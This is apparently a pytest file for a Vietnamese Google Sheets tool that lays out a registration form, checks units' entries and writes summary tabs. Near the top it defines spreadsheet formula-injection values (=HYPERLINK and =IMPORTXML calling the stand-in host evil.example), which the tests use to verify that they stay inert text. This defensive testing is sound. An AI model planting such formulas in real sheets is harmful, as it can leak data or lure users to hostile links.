"""The main Google path end to end, through the real gspread client and the fake over HTTP:
init on an empty spreadsheet, units type rows, check, aggregate; init re-run safety.
"""

from __future__ import annotations

import json

import pytest

from danvan_sheets.core.legacy import encode
from danvan_sheets.core.tables import SUMMARY_SHEETS
from tests.fakes.fixtures import make_gspread_client
from tests.google_helpers import STAFF, UNITS, assert_clean_exit, flat, make_setup, serial

THUE, TUPHAP, CCB = (u[1] for u in UNITS)
EMAIL = {u[1]: u[3] for u in UNITS}
HEADER = ["Stt", "Tên mô hình", "Số lượng", "Thời gian xây dựng", "Địa điểm triển khai",
          "Quy mô thực hiện", "Thời gian hoàn thành"]
LEGACY_NAME = "Dân vận khéo trong cải cách thủ tục hành chính thuế"
LEGACY_PLACE = "Phòng Hành chính - Quản trị"
FORMULA_NAME = '=HYPERLINK("http://evil.example/x","Bấm vào đây")'
FORMULA_TIME = '=IMPORTXML("http://evil.example/","//a")'
FORMULA_TAB = '=HYPERLINK("http://evil.example/tab")'
# Rows of the form (1-based, as the units see them): section I's placeholders are rows 8-10,
# section II's 12-14 (title, Đơn vị, blank, header, numbering, Tổng số, I, 1, 2, 3, II, …).
ROW_I, ROW_II = 8, 12


@pytest.fixture
def env(tmp_path, fake_google):
    sid = fake_google.create_spreadsheet("Đăng ký Dân vận khéo 2023")
    setup = make_setup(tmp_path, fake_google.host)
    setup.sid = sid
    setup.source = f"gsheet:{sid}"
    return setup


def _init(env):
    result = env.run("init", source=env.source)
    assert_clean_exit(result, 0)
    return result


def _type_rows(fake, sid):
    """What the units type, through gspread like a person in the browser would (RAW vs USER_ENTERED)."""
    book = make_gspread_client(fake.host).open_by_key(sid)
    thue = book.worksheet(THUE)
    # Typed with a .VnTime font: TCVN3 bytes shown as Latin-1.
    thue.update([[1, encode(LEGACY_NAME, "tcvn3"), 1, "Tháng 3/2023", encode(LEGACY_PLACE, "tcvn3"),
                  "Tập thể", "Quý IV/2023"]], f"A{ROW_I}:G{ROW_I}", value_input_option="RAW")
    # A date typed into a time cell: the sheet turns it into a date (a serial number).
    thue.update([[2, "Lãnh đạo thực hiện chuyển đổi số trong cơ quan thuế", 1, "15/05/2023", "Toàn cơ quan",
                  "Tập thể", "Tháng 12/2023"]], f"A{ROW_I + 1}:G{ROW_I + 1}", value_input_option="USER_ENTERED")
    thue.update([[1, "Cán bộ thuế thân thiện vì người nộp thuế", 1, "Quý II/2023", "Bộ phận một cửa",
                  "Cá nhân", "Năm 2023"]], f"A{ROW_II}:G{ROW_II}", value_input_option="USER_ENTERED")
    tuphap = book.worksheet(TUPHAP)
    # Formula-looking text typed as text.
    tuphap.update([[1, FORMULA_NAME, 1, "Quý II/2023", "Văn phòng Sở", "Tập thể", "Quý IV/2023"]],
                  f"A{ROW_I}:G{ROW_I}", value_input_option="RAW")
    tuphap.update([[2, "Phổ biến pháp luật cho người dân", 1, FORMULA_TIME, "Phòng Phổ biến", "Tập thể",
                    "Quý IV/2023"]], f"A{ROW_I + 1}:G{ROW_I + 1}", value_input_option="RAW")
    book.add_worksheet(FORMULA_TAB, rows=10, cols=5)


def _units_state(fake, sid):
    return {t: fake.get_values(sid, t) for t in (THUE, TUPHAP, CCB)}


def test_init_lays_out_an_empty_spreadsheet(env, fake_google):
    out = flat(_init(env).output)
    sid = env.sid
    tabs = fake_google.tabs(sid)
    for title in ("Hướng dẫn", THUE, TUPHAP, CCB, *SUMMARY_SHEETS):
        assert title in tabs
    assert "Đã thêm" in out

    # A unit tab follows the form.
    rows = fake_google.get_values(sid, THUE)
    assert "NĂM 2023" in rows[0][0] and "DÂN VẬN KHÉO" in rows[0][0]
    assert rows[1][0] == f"Đơn vị: {THUE}"
    assert rows[3] == HEADER
    assert rows[4] == [f"({i})" for i in range(1, 8)]
    assert rows[5][1] == "Tổng số"
    sheet = fake_google.sheet(sid, THUE)
    assert sheet.cells[(5, 2)].formula.startswith("=SUM(C")  # Tổng số sums Số lượng
    assert [rows[i][0] for i in (6, 10, 14, 18)] == ["I", "II", "III", "IV"]
    assert rows[ROW_I - 1][:2] == [1, "Mô hình…."]

    # Dropdown for Quy mô, hints on both time columns, over every data row.
    scale = sheet.data_validation[(ROW_I - 1, 5)]
    assert scale["condition"]["type"] == "ONE_OF_LIST"
    assert [v["userEnteredValue"] for v in scale["condition"]["values"]] == ["Cá nhân", "Tập thể"]
    for col in (3, 6):
        for row in range(6, 22):
            hint = sheet.data_validation[(row, col)]["inputMessage"]
            assert "tháng" in hint and "Quý II/2023" in hint
    assert (ROW_I - 1, 2) not in sheet.data_validation  # Số lượng has no list
    assert sheet.frozen_rows >= 4  # the header row stays in view
    assert set(sheet.column_widths) >= set(range(7))
    assert sheet.column_widths[1] == max(sheet.column_widths.values())  # Tên mô hình is the widest

    # Hướng dẫn states the quotas, the mandatory model and the deadline.
    guide = "\n".join(r[0] for r in fake_google.get_values(sid, "Hướng dẫn") if r)
    assert "25/04/2023" in guide
    assert "ít nhất 02" in guide and "ít nhất 01" in guide
    assert "chuyển đổi số" in guide

    # Protected ranges: each unit tab by its unit + the staff; header rows and shared tabs by the staff.
    ids = {s.title: s.sheet_id for s in fake_google.spreadsheet(sid).sheets}
    ranges = fake_google.protected_ranges(sid)
    by_sheet: dict[int, list[dict]] = {}
    for pr in ranges:
        by_sheet.setdefault(pr["range"]["sheetId"], []).append(pr)
    for name, email in EMAIL.items():
        prs = by_sheet[ids[name]]
        whole = [p for p in prs if "startRowIndex" not in p["range"]]
        head = [p for p in prs if "startRowIndex" in p["range"]]
        assert len(whole) == 1 and len(head) == 1
        assert sorted(whole[0]["editors"]["users"]) == sorted([*STAFF, email])
        assert sorted(head[0]["editors"]["users"]) == sorted(STAFF)
        assert head[0]["range"]["startRowIndex"] == 0 and head[0]["range"]["endRowIndex"] >= 5
        assert not whole[0]["warningOnly"] and not head[0]["warningOnly"]
    for title in ("Hướng dẫn", *SUMMARY_SHEETS):
        prs = by_sheet[ids[title]]
        assert len(prs) == 1 and sorted(prs[0]["editors"]["users"]) == sorted(STAFF)
    unit_emails = set(EMAIL.values())
    for pr in ranges:
        named = set(pr["editors"]["users"]) & unit_emails
        assert len(named) <= 1  # never another unit's address


def test_units_type_then_check_and_aggregate(env, fake_google):
    _init(env)
    sid = env.sid
    _type_rows(fake_google, sid)
    # What the sheet holds now: the date became a serial, the formula-looking text stayed text.
    assert fake_google.get_values(sid, THUE)[ROW_I][3] == serial(15, 5, 2023)
    assert fake_google.sheet(sid, TUPHAP).cells[(ROW_I - 1, 1)].formula is None
    before = _units_state(fake_google, sid)

    fake_google.reset_log()
    result = env.run("check", "--format", "json", "--as-of", "2023-05-02", source=env.source)
    assert_clean_exit(result, 1)  # some units are not there yet
    assert fake_google.writes() == 0
    report = json.loads(result.stdout)
    units = {u["name"]: u for u in report["units"]}
    assert units[THUE]["status"] == "dat"
    assert units[TUPHAP]["status"] == "chua_dat"
    assert units[CCB]["status"] == "chua_dang_ky"
    entries = {e["row"]: e for e in units[THUE]["entries"]}
    assert entries[ROW_I]["name"] == LEGACY_NAME  # legacy font decoded
    assert entries[ROW_I]["location"] == LEGACY_PLACE
    assert entries[ROW_I + 1]["build"] == {"from": "2023-05", "to": "2023-05"}  # the date read as its month
    assert entries[ROW_I + 1]["mandatory"] == "chuyen_doi_so"
    assert {p["code"] for p in units[THUE]["problems"]} == {"legacy_encoding"}
    assert units[TUPHAP]["entries"][0]["name"] == FORMULA_NAME
    assert any(p["value"] == FORMULA_TIME for p in units[TUPHAP]["problems"])

    table = env.run("check", "--as-of", "2023-05-02", source=env.source)
    assert_clean_exit(table, 1)
    assert "Đạt" in table.stdout and "Chưa đăng ký" in table.stdout

    fake_google.reset_log()
    result = env.run("aggregate", "--as-of", "2023-05-02", source=env.source)
    assert_clean_exit(result, 0)
    assert "Đã ghi các trang Tổng hợp" in result.stdout
    assert (fake_google.reads(), fake_google.writes()) == (2, 1)
    write = [r for r in fake_google.requests if r.is_write][0]
    assert write.path.endswith(":batchUpdate")
    summary_ids = {s.sheet_id for s in fake_google.spreadsheet(sid).sheets if s.title in SUMMARY_SHEETS}
    on_units = [req for req in write.body["requests"] for op in req.values()
                if {v["sheetId"] for v in _sheet_refs(op)} - summary_ids]
    # On a unit's tab aggregate only ever sets its notes on problem cells: never a value or a format.
    assert on_units and all(set(r) == {"updateCells"} and r["updateCells"]["fields"] == "note" for r in on_units)
    assert _units_state(fake_google, sid) == before

    total = fake_google.get_values(sid, "Tổng hợp")
    assert "cập nhật lúc" in total[0][0]
    rows = {r[1]: r for r in total[3:6]}
    assert rows[THUE][11] == "Đạt" and rows[TUPHAP][11] == "Chưa đạt" and rows[CCB][11] == "Chưa đăng ký"
    assert [FORMULA_TAB] in total  # the odd tab is listed as text
    status_cell = fake_google.sheet(sid, "Tổng hợp").cells[(3, 11)]
    assert status_cell.format.get("backgroundColor")  # status colours
    todo = fake_google.get_values(sid, "Cần bổ sung")
    names = [r[1] for r in todo[3:] if len(r) > 1]
    assert set(names[:2]) == {TUPHAP, CCB}  # the flagged units first
    assert THUE not in names[:2]
    problems = fake_google.get_values(sid, "Lỗi nhập liệu")
    assert any(FORMULA_TIME in r for r in problems)

    # The summary cells hold strings and numbers, never formulas.
    for title in SUMMARY_SHEETS:
        sheet = fake_google.sheet(sid, title)
        assert sheet.cells, title
        assert [k for k, c in sheet.cells.items() if c.formula] == [], title
        for cell in sheet.cells.values():
            assert cell.value is None or isinstance(cell.value, (str, int, float))

    # Nothing changed: the re-run reads twice and writes nothing.
    fake_google.reset_log()
    again = env.run("aggregate", "-q", "--as-of", "2023-05-02", source=env.source)
    assert_clean_exit(again, 0)
    assert (fake_google.reads(), fake_google.writes()) == (2, 0)


def _sheet_refs(op):
    """Every {"sheetId": …} a batchUpdate request refers to (ranges, starts, properties)."""
    if isinstance(op, dict):
        if "sheetId" in op:
            yield op
        for v in op.values():
            yield from _sheet_refs(v)
    elif isinstance(op, list):
        for v in op:
            yield from _sheet_refs(v)


def test_init_twice_changes_nothing_units_typed(env, fake_google):
    _init(env)
    sid = env.sid
    _type_rows(fake_google, sid)
    before = _units_state(fake_google, sid)
    ranges = fake_google.protected_ranges(sid)
    tabs = fake_google.tabs(sid)

    fake_google.reset_log()
    result = env.run("init", source=env.source)
    assert_clean_exit(result, 0)
    assert "không cần thay đổi" in result.output
    assert not [r for r in fake_google.requests if r.path.endswith(":batchUpdate")]
    assert fake_google.writes() == 0
    assert _units_state(fake_google, sid) == before
    assert fake_google.tabs(sid) == tabs
    after = fake_google.protected_ranges(sid)
    assert after == ranges
    descriptions = [p["description"] for p in after]
    assert len(descriptions) == len(set(descriptions))


def test_init_adds_only_what_is_missing(env, fake_google, tmp_path):
    _init(env)
    sid = env.sid
    _type_rows(fake_google, sid)
    before = _units_state(fake_google, sid)
    n_ranges = len(fake_google.protected_ranges(sid))
    from tests.google_helpers import write_units

    newcomer = ("DT-CDVC", "Công đoàn Viên chức tỉnh", "Đoàn thể khối", "congdoanvienchuc@example.vn", "")
    write_units(env.units, [*UNITS, newcomer])
    fake_google.reset_log()
    result = env.run("init", source=env.source)
    assert_clean_exit(result, 0)
    assert fake_google.writes() == 1
    assert newcomer[1] in fake_google.tabs(sid)
    assert _units_state(fake_google, sid) == before
    assert len(fake_google.protected_ranges(sid)) == n_ranges + 2


def test_init_share_invites_each_unit_once(env, fake_google):
    result = env.run("init", "--share", source=env.source)
    assert_clean_exit(result, 0)
    perms = fake_google.permissions(env.sid)
    # The staff too: the edit rights init gives them on the ranges are no use without the file.
    assert sorted(p["emailAddress"] for p in perms) == sorted([*EMAIL.values(), *STAFF])
    assert {p["role"] for p in perms} == {"writer"}
    assert all(p["sendNotificationEmail"] and "Dân vận khéo" in p["emailMessage"] for p in perms)
    again = env.run("init", "--share", source=env.source)
    assert_clean_exit(again, 0)
    assert len(fake_google.permissions(env.sid)) == len(perms)
    assert "đã được chia sẻ từ trước" in again.output
